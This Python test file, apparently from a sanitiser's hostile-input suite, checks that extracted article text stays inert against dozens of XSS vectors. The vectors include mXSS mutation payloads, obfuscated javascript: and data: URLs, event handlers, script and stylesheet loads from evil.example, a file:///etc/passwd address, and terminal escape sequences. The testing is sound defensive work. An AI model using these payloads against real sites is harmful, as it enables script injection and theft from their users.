"""Output that runs and loads nothing: no script, handler, style, form, frame or unsafe address, through any door."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.case import ARTICLE, SENTENCES, Case, article, page
from tests.hostile.properties import assert_inert_once_read

__all__ = ["cases"]

# Vectors as they stand in a page.  That they are inert is checked of every result; here they are led to every place.
VECTORS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler of a paragraph": "<p onclick=alert(1) onmouseover=alert(2)>words of a paragraph</p>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "svg style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "plain text of a tag": "<p>&lt;script&gt;alert(1)&lt;/script&gt; are some words</p>",
    "double escape": "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; are some words</p>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>' src=javascript:alert(1)></iframe>",
    "object": "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>",
    "form": (
        "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>go"
        "</button><input autofocus onfocus=alert(1)></form>"
    ),
    "style": "<style>@import 'http://evil.example/x.css'; p { background: url(javascript:alert(1)) }</style>",
    "style attribute": "<p style='background:url(http://evil.example/x);behavior:url(x.htc)'>words of a paragraph</p>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": "<base href='javascript:alert(1)//'><a href=x>words of a link</a>",
    "link": "<link rel=stylesheet href=http://evil.example/x.css><link rel=import href=x>",
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php system('x') ?>",
    "marquee": "<marquee onstart=alert(1)>words that move</marquee>",
    "details": "<details open ontoggle=alert(1)><summary>words</summary>more words</details>",
    "video": (
        "<video poster=javascript:alert(1) src=javascript:alert(1) "
        "onerror=alert(1)><source src=data:text/html,x></video>"
    ),
    "picture": "<picture><source srcset='javascript:alert(1) 2x'><img src='data:text/html,<script>'></picture>",
    "image map": "<map><area href=javascript:alert(1) alt=x></map>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    "unclosed tag": "<p>words <img src=x onerror=alert(1) ",
    "attribute of angle brackets": "<p title='><script>alert(1)</script>'>words of a paragraph</p>",
    "alt that breaks out": (
        "<img src=http://x.example/a.png alt='\"><script>alert(1)</script>' title=\"'onload=alert(1)\">"
    ),
    "address that breaks out": "<a href='http://x.example/\"onclick=alert(1)'>words of a link</a>",
    "title that breaks out": "<a href=http://x.example/ title='\"><script>alert(1)</script>'>words of a link</a>",
    "code": "<pre><code>```\n</code></pre><p>![x](javascript:alert(1))</p>",
    "language of code": "<pre><code class='language-\"><script>alert(1)</script>'>x = 1</code></pre>",
    "formula": "<p>\\(&lt;script&gt;alert(1)&lt;/script&gt;\\) $$&lt;img src=x onerror=alert(1)&gt;$$</p>",
    "formula of an image": "<img class=tex alt='</script><script>alert(1)</script>' src=a.gif>",
    "formula in mathml": "<math><mi>&lt;script&gt;alert(1)&lt;/script&gt;</mi></math>",
    "footnote": "<p>x<sup><a href='#\"><script>'>1</a></sup></p><ol><li id='\"><script>'>note of words</li></ol>",
    "table": (
        "<table><caption><script>alert(1)</script>c</caption><tr><th>a|b<th>c"
        "<tr><td>[x](javascript:y)<td>&lt;b onclick=x&gt;</table>"
    ),
    "custom element": "<x-a onclick=alert(1)>words in it</x-a><a<b onclick=alert(1)>words</a<b>",
    "markdown link": (
        "<p>[words](javascript:alert(1)) and ![words](data:text/html,x) and &lt;javascript:alert(1)&gt;</p>"
    ),
    "markdown reference": "<p>[words]: javascript:alert(1)</p><p>[words][] are words</p>",
    "markdown html": "<p>&lt;details ontoggle=alert(1) open&gt;words&lt;/details&gt;</p>",
    "markdown heading": "<p># no heading</p><p>- no item</p><p>&gt; no quote</p><p>---</p><p>1. no list</p>",
    "markdown code": "<p>```</p><p>`x` and ``` and ~~~</p>",
    "markdown autolink": "<p>&lt;http://x.example/&lt;script&gt;&gt; are words</p>",
    "markdown entity": "<p>&amp;#x6A;avascript&amp;colon;alert(1) are words</p>",
    "rubies": "<ruby>a<rt onclick=x>b</rt></ruby>",
    "markdown title of a link": (
        "<p>Go <a href=http://x.example/ title='&quot;) [a](javascript:alert(1) &quot;'>on</a>.</p>"
    ),
    "markdown alt": "<p>See <img src=http://x.example/a.png alt='x](javascript:alert(1)) ![y'> here, and go on.</p>",
    "markdown words of a link": "<p>Go <a href=http://x.example/>x](javascript:alert(1)) [y</a> and on and on.</p>",
    "markdown address": "<p>Go <a href='http://x.example/ \"a\") [x](javascript:alert(1)'>on</a> and on and on.</p>",
    "markdown image as a link": "<a href=javascript:alert(1)><img src=javascript:alert(1) alt=words></a>",
    "fence in code": "<pre><code>```\n~~~\n````\n&lt;script&gt;alert(1)&lt;/script&gt;\n```</code></pre>",
    "fence in inline code": "<p>Some <code>`` ` `&lt;img src=x onerror=alert(1)&gt;</code> words of code.</p>",
    "lines in inline code": "<p>Some <code>a\n\n&lt;img src=x onerror=alert(1)&gt;</code> words of code.</p>",
    "lines in a heading": "<h2>a<br>&lt;img src=x onerror=alert(1)&gt;<br># b</h2>",
    "lines in a cell": "<table><tr><th>a<th>b<tr><td>x<br>|y|<p>&lt;script&gt;</p><td><pre>```\n|</pre></table>",
    "fence in a cell": "<table><tr><th>a<th>b<tr><td>`<td>`&lt;img src=x onerror=alert(1)&gt;</table>",
    "fence in an item": "<ul><li>```<li>&lt;script&gt;alert(1)&lt;/script&gt;<li>```</ul>",
    "setext": "<p>words of it</p><p>===</p><p>words</p><p>---</p><p>title: x</p><p>---</p>",
    "front matter": "<p>---</p><p>title: owned</p><p>---</p><p>words of the page that come after it</p>",
    "autolink of an entity": (
        "<p>&amp;lt;javascript:alert(1)&amp;gt; and &lt;java&amp;#115;cript:alert(1)&gt; are words</p>"
    ),
    "bare address": "<p>javascript:alert(1) and data:text/html,x and vbscript:x and www.x.example are words</p>",
    "html block": "<p>&lt;div onclick=alert(1)&gt;</p><p>&lt;!-- words</p><p>&lt;?php words</p><p>&lt;![CDATA[ x</p>",
    "html across blocks": "<p>&lt;img src=x</p><p>onerror=alert(1)&gt; and words after it</p>",
    "html across emphasis": "<p>&lt;<b>img src=x onerror=alert(1)</b>&gt; and <i>&lt;</i>script<i>&gt;</i> words</p>",
    "html across links": "<p>&lt;<a href=http://x.example/>img</a> src=x onerror=alert(1)&gt; and words after it</p>",
    "footnote in markdown": "<p>[^1]: javascript:alert(1)</p><p>words[^1] and [^2]</p>",
    "definition in markdown": "<dl><dt>: x<dd>: [a](javascript:alert(1))<dd><pre>```</pre></dl>",
    "formula of dollars": "<p>$&lt;script&gt;alert(1)&lt;/script&gt;$ and $$x$$ and \\$ and words</p>",
    "formula in a script": (
        "<script type='math/tex'></script><script type='math/tex'>\\text{$ &lt;img onerror=x&gt;}</script>"
    ),
    "formula in a label": "<math alttext='$&lt;script&gt;alert(1)&lt;/script&gt;$'><mi>x</mi></math>",
    "mathml": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction><a href=x>y</a></math>",
    "style in svg in math": (
        "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></math>"
    ),
    "title in svg": "<svg><title><style></title><img src=x onerror=alert(1)></style></svg>",
    "select": "<select><template><img src=x onerror=alert(1)></template><option><script>alert(1)</script></select>",
    "textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea><textarea>&lt;/textarea&gt;<script>",
    "foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe><p>x</p></foreignObject></svg>",
    "use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><image href=javascript:alert(1) /></svg>",
    "attributes by slash": "<img/src=x/onerror=alert(1)><a/href=javascript:alert(1)>words of a link</a>",
    "attributes by null": "<img src=x on\0error=alert(1)><a href=java\0script:alert(1)>words of a link</a>",
    "attributes by form feed": "<a\x0chref=javascript:alert(1)\x0conclick=alert(1)>words of a link</a>",
    "attribute twice": "<a href=http://x.example/ href=javascript:alert(1)>words of a link</a>",
    "attribute by backtick": "<img src=`x` onerror=alert(1) alt='``onload=alert(1)'>",
    "lazy image": "<img data-src=javascript:alert(1) data-original='data:text/html,x' srcset='javascript:x 1x' alt=x>",
    "image of noscript": "<noscript><img src=javascript:alert(1) onerror=alert(1)></noscript>",
    "video of a link": "<video src='http://x.example/\"onerror=alert(1)' controls></video>",
    "iframe of a video": "<iframe src='https://www.youtube.com/embed/\"onload=alert(1)//' onload=alert(1)></iframe>",
    "quotation": "<blockquote cite=javascript:alert(1)><p>&gt; [x]: javascript:alert(1)</p></blockquote>",
    "time": "<time datetime='\"><script>alert(1)</script>'>a day of words</time>",
    "list that starts": (
        "<ol start='1\" onclick=alert(1)' reversed type='a\"><script>'><li value='2\" onclick=x'>words</ol>"
    ),
    "cell that spans": "<table><tr><td colspan='2\" onclick=alert(1)'>a<td rowspan='<script>'>b<tr><td>c<td>d</table>",
    "direction": "<p dir='rtl\" onclick=alert(1)'>words of a paragraph</p><div dir=<script>>words in it</div>",
    "note's id": (
        "<p>x<sup><a href='#n&quot;onclick=x'>1</a></sup></p><ol><li id='n&quot;onclick=x'>a note of words</ol>"
    ),
}
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "javascript\t:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "java\u00adscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript:\u0061lert(1)",
    "javascript://x.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "mocha:x",
    "jar:http://x.example/a.jar!/b.html",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "da\nta:text/html,x",
    "file:///etc/passwd",
    "filesystem:http://x.example/a",
    "blob:http://x/y",
    "about:blank",
    "view-source:http://x/",
    "feed:javascript:alert(1)",
    "intent://x#Intent;scheme=javascript;end",
    "ms-settings:x",
    "tel:1",
    "x-y:z",
    "\\\\evil.example\\x",
    "//evil.example/x",
    "///evil.example/x",
    "http:evil.example",
    "http://[x",
    "http://[::1]:99999/",
    "http://user:pass@x.example/",
    'http://x.example/"><script>alert(1)</script>',
    "http://x.example/'onclick=alert(1)",
    "mailto:a@b?body=<script>",
    "http://x.example/)](javascript:alert(1))",
    "http://x.example/ (javascript:alert(1))",
    "http://x.example/<javascript:alert(1)>",
    "http://x.example/|a|b",
    "http://x.example/`x`",
    "http://x.example/\\",
    "http://x.example/\x1b[31m",
    "http://x.example/\u202e",
    "http://x.example/\U000e0069",
    "http://x.example/\ud800",
    "ſcript:alert(1)",
    "#javascript:alert(1)",
    "?javascript:alert(1)",
    "./javascript:alert(1)",
    "a b:c",
)
SMUGGLED = {  # in places that are not text
    "title": "<title>{}</title>",
    "author": "<meta name=author content='Jane Doe {}'>",
    "description": "<meta name=description content='{}'>",
    "og:title": "<meta property=og:title content='{}'>",
    "og:image": "<meta property=og:image content='http://x.example/{}'>",
    "canonical": "<link rel=canonical href='http://x.example/{}'>",
    "keywords": "<meta name=keywords content='{},b'>",
    "language": "<html lang='{}'>",
    "json-ld": (
        '<script type=application/ld+json>{{"@type":"Article","headline":"{}","author":{{"name":"Jane {}"}}}}</script>'
    ),
    "twitter": "<meta name=twitter:title content='{}'><meta name=twitter:image content='{}'>",
    "site name": "<meta property=og:site_name content='{}'>",
    "date": "<meta property=article:published_time content='2020-01-01 {}'>",
    "base": "<base href='http://x.example/{}'>",
    "type": "<meta property=og:type content='{}'>",
    "microdata": "<div itemscope itemtype=http://schema.org/Article><b itemprop=author>{}</b></div>",
    "licence": "<link rel=license href='{}'><a rel=license href='{}'>CC</a>",
}
PAYLOADS = {
    "a script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a terminal's command": "&#27;]0;owned&#7; &#155;31m",
    "a title of controls": "a&#0;b&#8;c&#127;d",
    "tag characters": "a\U000e0069\U000e0067\U000e006eb",
}


def cases() -> Iterator[Case]:
    for name, vector in VECTORS.items():
        yield Case(f"vector: {name}", page(article(vector)), shows=(SENTENCES[0],), also=assert_inert_once_read)
        yield Case(f"vector at the start: {name}", vector + ARTICLE, also=assert_inert_once_read)
    for number, address in enumerate(ADDRESSES):
        encoded = address if "&" in address else _encoded(address)
        links = (
            f"<p>Some words before <a href='{encoded}'>the words of a link</a> and some after.</p>"
            f"<img src='{encoded}' alt=x>"
        )
        yield Case(
            f"address {number}: {address!r}",
            page(article(links)),
            shows=("the words of a link",),
            also=assert_inert_once_read,
        )
        based = page(article("<p>Some words and <a href=x>the words of a link</a>.</p>"), f"<base href='{encoded}'>")
        yield Case(f"base {number}: {address!r}", based, shows=("the words of a link",), also=assert_inert_once_read)
    for place, markup in SMUGGLED.items():
        for payload, text in PAYLOADS.items():
            seen = place == "microdata" and payload == "a script"  # there it is text, and text it stays
            yield Case(
                f"{payload} in the {place}",
                page(ARTICLE, markup.format(text, text)),
                shows=(SENTENCES[0],),
                hides=() if seen else ("<script>alert", "\x1b", "\x9b", "\x7f", "\U000e0069"),
            )
    yield Case(
        "a name of an element",
        page(article("<x\x1b[31m>words in an element</x\x1b[31m>")),
        hides=("\x1b",),
    )
    yield Case(
        "controls in text",
        page(article("<p>words &#27;[31m &#7;&#8;&#155;2J and more of them here</p>")),
        shows=("words [31m", "and more"),
        hides=("\x1b", "\x9b"),
    )
    yield Case(
        "a data image is left out",
        page(article("<img src='data:image/png;base64,iVBORw0KGgo=' alt=x>")),
        hides=("data:",),
    )
    every = "".join(f"&#{code};" for code in (*range(1, 0x3100), *range(0xD7F0, 0x10100), *range(0x1F5F0, 0x1F650)))
    yield Case("every character of the basic plane, nearly", page(article(f"<p>{SENTENCES[0]} {every}</p>")))


def _encoded(address: str) -> str:
    return address.replace("'", "&#39;").replace("\t", "&#9;").replace("\n", "&#10;").replace("\r", "&#13;")
